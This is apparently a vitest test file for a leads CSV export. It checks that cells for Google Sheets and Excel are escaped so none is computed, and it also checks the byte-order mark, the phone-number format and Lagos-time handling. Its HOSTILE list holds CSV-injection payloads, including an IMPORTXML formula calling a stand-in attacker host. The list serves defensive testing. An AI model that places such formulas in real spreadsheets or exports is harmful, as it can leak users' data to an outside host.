import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { expect, test } from 'vitest';
import { LeadStore } from '#server/leads/accept/lead-store.ts';
import { openStorage } from '#server/platform/database/index.ts';
import { runCli } from '#tests/support/cli.ts';
import { temporaryDirectory } from '#tests/support/process.ts';
import { submission } from '#tests/support/sender.ts';

/** The characters at the start of a cell that Sheets and Excel take for a formula or an instruction (OWASP, "CSV Injection"). */
const COMPUTED = /^[=+\-@\t\r\n]/;
const HOSTILE = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '=IMPORTXML("https://evil.example";"//a")',
];

test('the export for Google Sheets is text in every cell: nothing is computed, numbers keep their country, times their zone', async () => {
  const directory = temporaryDirectory();
  const storage = await openStorage(directory);
  const store = new LeadStore(storage, 'example.com');
  for (const message of [...HOSTILE, 'First line,\n"second"; line'])
    await store.accept(submission(message, { first_name: message }));
  await storage.close();
  const environment = { DATA_DIR: directory, DATABASE_URL: '' };
  const file = join(directory, 'leads.csv');
  const { code } = await runCli('leads', { environment, open: async () => storage }, 'export', '--out', file);
  expect(code).toBe(0);

  const bytes = await readFile(file);
  // Sheets and Excel read other letters than English ones by this mark alone.
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const rows: Record<string, string>[] = parse(bytes, { bom: true, columns: true });
  expect(rows).toHaveLength(HOSTILE.length + 1);
  for (const row of rows) {
    for (const [column, cell] of Object.entries(row)) expect(cell, column).not.toMatch(COMPUTED);
    expect(row['phone_number']).toBe("'+2348031234567");
    expect(row['created_at']).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
  }
  const messages = rows.map((row) => row['message']);
  expect(messages).toContain('First line,\n"second"; line');
  expect(messages).toContain('\'=IMPORTXML("https://evil.example";"//a")');

  // The formulas that docs/leads.md gives for a time of Lagos cut the text at these places.
  const [{ created_at: at = '' } = {}] = rows;
  const lagos = new Date(Date.parse(`${at.slice(0, 10)}T${at.slice(11, 19)}Z`) + 60 * 60 * 1000);
  const [date, time] = new Intl.DateTimeFormat('sv', {
    timeZone: 'Africa/Lagos',
    dateStyle: 'short',
    timeStyle: 'medium',
  })
    .format(new Date(at))
    .split(' ');
  expect(lagos.toISOString().slice(0, 19)).toBe(`${date}T${time}`);
});
